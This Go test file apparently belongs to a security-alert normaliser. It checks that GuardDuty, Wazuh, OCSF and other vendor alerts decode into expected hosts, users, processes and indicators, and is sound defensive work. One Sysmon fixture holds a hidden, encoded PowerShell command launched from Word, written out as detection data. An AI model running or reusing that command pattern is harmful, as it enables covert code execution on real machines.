				Labels:   map[string]string{"api": "ListBuckets", "access_key_id": "ASIAEXAMPLEKEY123456", "user_type": "AssumedRole"},
			}},
		},
		{
			file: "guardduty/port_probe.json",
			alerts: []want{{
				ID: "d8c0e2a4b6d84c0e2a4b6c8d0e2f4a6b", Source: "guardduty", Rule: "Recon:EC2/PortProbeUnprotectedPort",
				Title:    "Unprotected port on EC2 instance i-0123456789abcdef0 is being probed.",
				Category: "network", Severity: alert.SeverityMedium, Time: "2026-05-14T06:00:00Z",
				Entities: []string{
					"host legacy-rdp id=i-0123456789abcdef0 ip=10.20.2.30,52.16.0.30",
					"ip 203.0.113.81 source",
					"ip 203.0.113.82 source",
				},
				Labels: map[string]string{"probed_ports": "3389,22"},
			}},
		},
		{
			// The AWS CLI's PascalCase output.
			file: "guardduty/get_findings_cli.json",
			alerts: []want{{
				ID: "e0a2c4e6a8b0c2d4e6f8a0b2c4d6e8f0", Source: "guardduty", Rule: "CryptoCurrency:EC2/BitcoinTool.B!DNS",
				Title:    "Bitcoin-related domain name queried by EC2 instance i-0abc1234def567890.",
				Category: "malware", Severity: alert.SeverityHigh, Time: "2026-05-14T04:58:00Z",
				Entities: []string{
					"host bastion-prod-1 id=i-0abc1234def567890 ip=10.20.1.15,52.16.0.15",
					"domain pool.minexmr.example",
				},
				Labels: map[string]string{"region": "eu-west-1", "count": "2"},
			}},
		},
		{
			file: "guardduty/attack_sequence_critical.json",
			alerts: []want{{
				ID: "f1a3c5e7b9d14f3a5c7e9b1d3f5a7c9e", Source: "guardduty", Rule: "AttackSequence:IAM/CompromisedCredentials",
				Title:    "Potential credential compromise of IAM user ci-deployer indicated by a sequence of actions.",
				Category: "identity", Severity: alert.SeverityCritical, Time: "2026-05-14T02:00:00Z",
				Entities: []string{"user ci-deployer id=AIDAEXAMPLEUSERID", "ip 203.0.113.99 source"},
			}},
		},
		{file: "guardduty/eventbridge_malware_scan.json", skipped: 1, skip: "detail-type GuardDuty Malware Protection Object Scan Result"},
		{file: "guardduty/error_no_type.json", errHas: []string{"guardduty: detail.type: missing"}},

		// Wazuh.
		{
			file: "wazuh/sshd_bruteforce.json",
			alerts: []want{{
				ID: "1778750401.2480372", Source: "wazuh", Rule: "5712",
				Title:    "sshd: brute force trying to get access to the system. Non existent user.",
				Category: "identity", Severity: alert.SeverityMedium, Time: "2026-05-14T09:20:01.512Z",
				Techniques: []string{"T1110"},
				Entities: []string{
					"host web-01 id=003 ip=10.0.5.20",
					"user oracle",
					"ip 203.0.113.50 source port=52240",
				},
				Labels: map[string]string{"rule_level": "10", "groups": "syslog,sshd,authentication_failures",
					"manager": "wazuh-manager", "location": "/var/log/auth.log", "decoder": "sshd"},
				Desc: "Invalid user oracle from 203.0.113.50",
			}},
		},
		{
			file: "wazuh/syscheck_modified.json",
			alerts: []want{{
				ID: "1778754644.3390211", Source: "wazuh", Rule: "550", Title: "Integrity checksum changed.",
				Category: "malware", Severity: alert.SeverityMedium, Time: "2026-05-14T10:30:44.02Z",
				Techniques: []string{"T1565.001"},
				Entities: []string{
					"host db-01 id=004 ip=10.0.7.10",
					"file passwd path=/etc/passwd md5=" + passwdMD5 + " sha1=" + passwdSHA1 + " sha256=" + passwdSHA2,
				},
				Labels: map[string]string{"syscheck_event": "modified"},
			}},
		},
		{
			// Wazuh's doubled backslashes are undone; Sysmon's Hashes split.
			file: "wazuh/windows_sysmon.json",
			alerts: []want{{
				ID: "1778752968.889123", Source: "wazuh", Rule: "92052",
				Title:    "Office application started a suspicious process: powershell.exe",
				Category: "malware", Severity: alert.SeverityHigh, Time: "2026-05-14T10:02:48.331Z",
				Techniques: []string{"T1059.001", "T1566.001"},
				Entities: []string{
					"host WS-042 id=012 ip=10.0.1.42",
					"user alice domain=CORP",
					"process powershell.exe pid=6120 cmd=powershell.exe -nop -w hidden -enc SQBFAFgA parent=WINWORD.EXE sha256=" + psSHA256,
					`file powershell.exe path=C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe md5=` + psMD5 + " sha1=" + psSHA1 + " sha256=" + psSHA256,
				},
				Labels: map[string]string{"computer": "WS-042.corp.example"},
			}},
		},
		{
			// A level as a string; the computer account DC01$ is no user.
			file: "wazuh/windows_logon_failure.json",
			alerts: []want{{
				ID: "1778758200.55512", Source: "wazuh", Rule: "60122", Title: "Logon failure - Unknown user or bad password.",
				Category: "identity", Severity: alert.SeverityLow, Time: "2026-05-14T11:30:00.001Z",
				Techniques: []string{"T1078", "T1531"},
				Entities:   []string{"host dc01 id=001 ip=10.0.0.10", "user bob domain=CORP", "ip 203.0.113.50 source"},
			}},
		},
		{
			file: "wazuh/alerts.json", entry: 0,
			alerts: []want{{
				ID: "1778749200.1", Source: "wazuh", Rule: "503", Title: "Wazuh agent started.",
				Severity: alert.SeverityInfo, Time: "2026-05-14T09:00:00Z",
				Entities: []string{"host web-01 id=003 ip=10.0.5.20"},
			}},
		},
		{
			file: "wazuh/alerts.json", entry: 1,
			alerts: []want{{
				ID: "1778749512.2", Source: "wazuh", Rule: "31101", Title: "Web server 400 error code.",
				Category: "network", Severity: alert.SeverityLow, Time: "2026-05-14T09:05:12.1Z",
				Entities: []string{"host web-01 id=003 ip=10.0.5.20", "ip 198.51.100.23 source"},
				Labels:   map[string]string{"url_path": "/.env"},
			}},
		},
		{
			file: "wazuh/alerts.json", entry: 2,
			alerts: []want{{
				ID: "1778749560.3", Source: "wazuh", Rule: "510", Title: "Rootkit: hidden process detected",
				Category: "malware", Severity: alert.SeverityCritical, Time: "2026-05-14T09:06:00Z",
				Entities: []string{"host db-01 id=004 ip=10.0.7.10"},
			}},
		},
		{
			file: "wazuh/minimal.json",
			alerts: []want{{
				Source: "wazuh", Rule: "100200", Title: "Wazuh rule 100200", Severity: alert.SeverityMedium,
				Time: "2026-05-14T09:00:00Z", Entities: []string{"host wazuh-manager id=000"},
			}},
		},
		{file: "wazuh/error_no_rule_id.json", errHas: []string{"wazuh: rule.id: missing"}},
		{file: "wazuh/error_bad_level.json", errHas: []string{`wazuh: rule.level: "high" is not a level`}},

		// OCSF.
		{
			file: "ocsf/detection_finding_full.json",
			alerts: []want{{
				ID: "acme-edr-finding-000871", Source: "acme edr", Rule: "ACME-EDR-LOADER-TEMP",
				Title: "Loader executed from temp directory", Category: "malware",
				Severity: alert.SeverityHigh, Time: "2026-05-14T10:02:47.118Z",
				Techniques: []string{"T1204", "T1204.002"},
				Entities: []string{
					"host ws-042 id=acme-agent-77c1 ip=10.0.1.42 os=Windows 11",
					"user alice domain=CORP email=alice@corp.example id=S-1-5-21-3623811015-3361044348-30300820-1013",
					"ip 10.0.1.42 source port=50999",
					"ip 198.51.100.66 destination port=443",
					`process loader.exe pid=7312 cmd=C:\Users\alice\AppData\Local\Temp\loader.exe --silent parent=EXCEL.EXE sha256=` + loaderSHA2,
					`file loader.exe path=C:\Users\alice\AppData\Local\Temp\loader.exe md5=` + loaderMD5 + " sha256=" + loaderSHA2,
					"domain cdn-update.example.net",
					"url https://cdn-update.example.net/p/2.bin",
				},
				Labels: map[string]string{"ocsf_product": "Acme EDR", "ocsf_vendor": "Acme Security", "analytic_uid": "R-1042"},
				Desc:   "known-bad hash",
			}},
		},
		{
			// Endpoints, device and actor at the top level; time in
			// seconds.
			file: "ocsf/top_level_network.json",
			alerts: []want{{
				ID: "notice-4471", Source: "zeek notice bridge", Rule: "SSH::Password_Guessing", Title: "SSH password guessing",
				Category: "identity", Severity: alert.SeverityMedium, Time: "2026-05-14T09:13:20Z",
				Techniques: []string{"T1110"},
				Entities: []string{
					"host web-01 ip=10.0.5.20",
					"user oracle",
					"ip 203.0.113.50 source port=52240",
					"ip 10.0.5.20 destination port=22",
				},
			}},
		},
		{
			file: "ocsf/minimal.json",
			alerts: []want{{
				Source: "ocsf", Rule: "Test finding", Title: "Test finding", Severity: alert.SeverityMedium,
				Time: "2026-05-14T12:00:00Z", Entities: []string{"host lab-01"},
			}},
		},
		{
			// severity_id 99 defers to the caption; time_dt when time is
			// null; the instance among the resources is the host.
			file: "ocsf/messy.json",
			alerts: []want{{
				ID: "f-99", Source: "examplecloud", Rule: "CLOUD-S3-001", Title: "Public bucket exposed",
				Category: "exfiltration", Severity: alert.SeverityCritical, Time: "2026-05-14T13:30:00Z",
				Entities: []string{"host bastion-prod-1 id=i-0abc1234def567890"},
			}},
		},
		{file: "ocsf/error_other_class.json", errHas: []string{"ocsf: class_uid: 2003 (Compliance Finding) is not a Detection Finding (2004)"}},
		{file: "ocsf/error_no_analytic.json", errHas: []string{"ocsf: finding_info.analytic.name: missing"}},

		// socflow native.
		{
			file: "native/full.json",
			alerts: []want{{
				ID: "edr-7731", Source: "edr", Rule: "Known malicious file executed",
				Title:    "invoice-viewer.exe (known dropper) ran on ws-042 as alice",
				Category: "malware", Severity: alert.SeverityHigh, Time: "2026-05-14T10:02:47Z",
				Techniques: []string{"T1204.002"},
				Entities: []string{
					"host ws-042 ip=10.0.1.42 os=Windows 11",
					"user alice domain=CORP email=alice@corp.example",
					"ip 10.0.1.42 source port=50811",
					"ip 198.51.100.66 destination port=443",
					"process invoice-viewer.exe pid=6120 parent=OUTLOOK.EXE sha256=" + dropSHA256,
					"file invoice-viewer.exe sha256=" + dropSHA256,
				},
				Labels: map[string]string{"mailbox": "alice@corp.example"},
				Desc:   "internal watchlist",
			}},
		},
		{
			file: "native/numeric_severity.json",
			alerts: []want{{
				Source: "idp", Rule: "Password spraying", Title: "48 failed sign-ins for bob", Category: "identity",
				Severity: alert.SeverityHigh, Time: "2026-05-14T11:30:00Z",
				Entities: []string{"user bob", "ip 203.0.113.50 source"},
			}},
		},
		{file: "native/error_unknown_field.json", errHas: []string{`native: unknown field "severty"`}},
		{file: "native/error_missing_fields.json", errHas: []string{"native: rule: is required", "time: is required", "entities:"}},

		// Generic mapping (acme-ids).
		{
			file: "generic/acme_ids.json",
			alerts: []want{{
				Source: "Acme IDS", Rule: "ACME-2024-0042 SMB lateral movement", Title: "SMB lateral movement attempt",
				Category: "network", Severity: alert.SeverityCritical, Time: "2026-05-14T09:13:20.123Z",
				Techniques: []string{"T1021.002"},
				Entities: []string{
					"host dc01 ip=10.0.0.10",
					"ip 10.0.2.77 source port=49152",
					"ip 10.0.0.10 destination port=445",
					"url https://ids.acme.example/e/42",
				},
				Labels: map[string]string{"mapping": "acme-ids", "vendor_severity": "P1"},
			}},
		},
		{
			// Dotted keys at the top level and inside a nested object; a
			// severity matched without regard to case; time in seconds.
			file: "generic/acme_ids_dotted.json",
			alerts: []want{{
				Source: "Acme IDS", Rule: "ACME-2024-0077 DNS tunnelling", Title: "ACME-2024-0077 DNS tunnelling",
				Severity: alert.SeverityMedium, Time: "2026-05-14T09:30:00Z",
				Entities: []string{
					"host ws-050",
					"ip 10.0.1.50 source",
					"ip 192.0.2.53 destination",
					"domain agvsbg8.tunnel.example.org",
				},
			}},
		},
		{file: "generic/error_acme_no_time.json", errHas: []string{"acme-ids: event.ts: missing"}},
	}

	r := testRegistry(t)
	covered := map[string]bool{}
	for _, tt := range tests {
		covered[tt.file] = true
		t.Run(fmt.Sprintf("%s#%d", strings.TrimSuffix(tt.file, ".json"), tt.entry), func(t *testing.T) {
			raw := readFixture(t, tt.file, tt.entry)
			detected, err := r.Detect(raw)
			if err != nil {
				t.Fatalf("Detect: %v", err)
			}
			for _, name := range []string{"", detected.Name()} {
				res, err := r.Decode(raw, name)
				if len(tt.errHas) > 0 {
					if err == nil {
						t.Fatalf("Decode(format %q) succeeded, want an error with %q", name, tt.errHas)
					}
					for _, s := range tt.errHas {
						if !strings.Contains(err.Error(), s) {
							t.Errorf("error %q does not contain %q", err, s)
						}
					}
				} else if err != nil {
					t.Fatalf("Decode(format %q): %v", name, err)
				}
				if res.Skipped != tt.skipped || res.SkipReason != tt.skip {
					t.Errorf("skipped %d %q, want %d %q", res.Skipped, res.SkipReason, tt.skipped, tt.skip)
				}
				if len(res.Alerts) != len(tt.alerts) {
					t.Fatalf("got %d alerts, want %d", len(res.Alerts), len(tt.alerts))
				}
				for i, w := range tt.alerts {
					checkAlert(t, res.Alerts[i], w, raw)
				}
			}
		})
	}
	// Every fixture has its expectations here, so a new fixture cannot be
	// added without saying what it decodes to.
	for _, f := range fixtures(t, "") {
		if !covered[strings.TrimPrefix(f.path, "testdata/")] {
			t.Errorf("fixture %s has no case in TestDecodeFixtures", f.path)
		}
	}
}

// TestDecodeErrorsNameFields checks that rejections are *FieldError values
// naming the format and the vendor's field, so intake can report them.
func TestDecodeErrorsNameFields(t *testing.T) {
	tests := []struct {
		format, body, field string
	}{
		{"suricata", `{"timestamp":"2026-05-14T12:00:00Z","event_type":"alert","src_ip":"192.0.2.1","alert":{"severity":1}}`, "alert.signature"},
		{"suricata", `{"timestamp":"2026-05-14T12:00:00Z","event_type":"alert","src_ip":"192.0.2.1"}`, "alert"},
		{"suricata", `{"timestamp":"yesterday","event_type":"alert","src_ip":"192.0.2.1","alert":{"signature":"x"}}`, "timestamp"},
		{"suricata", `{"timestamp":"2026-05-14T12:00:00Z","src_ip":"192.0.2.1"}`, "event_type"},
		{"elastic", `{"kibana.alert.rule.name":"r","host":{"name":"h"}}`, "@timestamp"},
		{"elastic", `{"@timestamp":"2026-05-14T12:00:00Z","kibana.alert.rule.name":"r","kibana.alert.severity":"dire","host":{"name":"h"}}`, "kibana.alert.severity"},
		{"falcon", `{"metadata":{"eventType":"DetectionSummaryEvent","eventCreationTime":1778752200000}}`, "event"},
		{"falcon", `{"metadata":{"eventType":"DetectionSummaryEvent","eventCreationTime":1778752200000},"event":{"DetectName":"d","SeverityName":"bad","ComputerName":"h"}}`, "event.SeverityName"},
		{"defender", `{"title":"t","alertCreationTime":"not a time","computerDnsName":"h"}`, "alertCreationTime"},
		{"graph", `{"title":"t","severity":"nope","createdDateTime":"2026-05-14T12:00:00Z"}`, "severity"},
		{"guardduty", `{"schemaVersion":"2.0","type":"Recon:EC2/Portscan","severity":"loud","createdAt":"2026-05-14T12:00:00Z"}`, "severity"},
		{"guardduty", `{"schemaVersion":"2.0","type":"Recon:EC2/Portscan","severity":5}`, "service.eventFirstSeen"},
		{"guardduty", `{"source":"aws.guardduty","detail-type":"GuardDuty Finding"}`, "detail"},
		{"wazuh", `{"rule":{"id":"1","level":3},"agent":{"name":"a"}}`, "timestamp"},
		{"wazuh", `{"timestamp":"2026-05-14T12:00:00Z","agent":{"name":"a"}}`, "rule"},
		{"ocsf", `{"metadata":{"version":"1.1.0"},"finding_info":{"title":"t"}}`, "class_uid"},
		{"ocsf", `{"class_uid":"finding","metadata":{"version":"1.1.0"}}`, "class_uid"},
		{"ocsf", `{"class_uid":2004,"severity_id":"grave","metadata":{"version":"1.1.0"},"finding_info":{"title":"t"},"time":1778750000}`, "severity_id"},
		{"splunk", `{"search_name":"s","sid":"x"}`, "result"},
		{"splunk", `{"search_name":"s","sid":"x","result":{"_time":"soon","src":"192.0.2.1"}}`, "result._time"},
	}
	r := Builtin()
	for _, tt := range tests {
		t.Run(tt.format+"/"+tt.field, func(t *testing.T) {
			res, err := r.Decode([]byte(tt.body), tt.format)
			var fe *FieldError
			if !errors.As(err, &fe) {
				t.Fatalf("Decode = %d alerts, %v; want a *FieldError", len(res.Alerts), err)
			}
			if fe.Format != tt.format || fe.Field != tt.field {
				t.Errorf("error names %s / %s, want %s / %s (%v)", fe.Format, fe.Field, tt.format, tt.field, err)
			}
			if !strings.HasPrefix(err.Error(), tt.format+": "+tt.field+": ") {
				t.Errorf("message %q does not start with %q", err, tt.format+": "+tt.field+": ")
			}
		})
	}
}

// TestDecodeMalformedEntries checks what every format says about entries
// that are not one JSON object.
func TestDecodeMalformedEntries(t *testing.T) {
	bodies := map[string]string{
		"truncated":    `{"event_type": "alert", "alert": {`,
		"two values":   `{"a":1} {"b":2}`,
		"array":        `[1, 2]`,
		"string":       `"alert"`,
		"invalid utf8": "{\"title\": \"caf\xe9\"}",
	}
	r := testRegistry(t)
	for _, name := range r.Names() {
		for what, body := range bodies {
			t.Run(name+"/"+what, func(t *testing.T) {
				res, err := r.Decode([]byte(body), name)
				if err == nil {
					t.Fatalf("Decode succeeded with %d alerts, want an error", len(res.Alerts))
				}
				if !strings.HasPrefix(err.Error(), name+": ") {
					t.Errorf("error %q does not name the format", err)
				}
			})
		}
	}
}

// TestDecodeKeepsRaw checks that the raw payload is kept, truncated at
// alert.MaxRawBytes, and that a page element keeps its own bytes.
func TestDecodeKeepsRaw(t *testing.T) {
	r := Builtin()
	big := `{"timestamp":"2026-05-14T12:00:00Z","event_type":"alert","src_ip":"192.0.2.1","alert":{"signature":"s"},"payload_printable":"` +
		strings.Repeat("é", alert.MaxRawBytes) + `"}`
	res, err := r.Decode([]byte(big), "")
	if err != nil {
		t.Fatal(err)
	}
	a := res.Alerts[0]
	if !a.RawTruncated || len(a.Raw) > alert.MaxRawBytes {
		t.Errorf("raw of %d bytes, truncated %v; want at most %d and truncated", len(a.Raw), a.RawTruncated, alert.MaxRawBytes)
	}

	res, err = r.Decode(readFixture(t, "graph/alerts_page.json", 0), "")
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range res.Alerts {
		if !strings.HasPrefix(a.Raw, `{"@odata.type":"#microsoft.graph.security.alert","id":"`+a.ID) {
			t.Errorf("alert %s raw starts %.60q, want its own page element", a.ID, a.Raw)
		}
	}
}

// TestDecodeBoundsEntities checks that a payload naming a huge number of
// entities decodes quickly, keeps maxEntities of them and says so.
func TestDecodeBoundsEntities(t *testing.T) {
	var sb strings.Builder
	sb.WriteString(`{"@odata.type":"#microsoft.graph.security.alert","id":"x","title":"t","createdDateTime":"2026-05-14T12:00:00Z","evidence":[`)
	for i := range 50000 {
		if i > 0 {
			sb.WriteByte(',')
		}
		fmt.Fprintf(&sb, `{"@odata.type":"#microsoft.graph.security.ipEvidence","ipAddress":"10.%d.%d.%d"}`, i>>16&255, i>>8&255, i&255)
	}
	sb.WriteString(`]}`)
	res, err := Builtin().Decode([]byte(sb.String()), "")
	if err != nil {
		t.Fatal(err)
	}
	a := res.Alerts[0]
	if len(a.Entities.IPs) != maxEntities || a.Labels[alert.LabelTruncated] != "entities.ips" {
		t.Errorf("%d IPs, label %s = %q; want %d and entities.ips", len(a.Entities.IPs), alert.LabelTruncated, a.Labels[alert.LabelTruncated], maxEntities)
	}
}
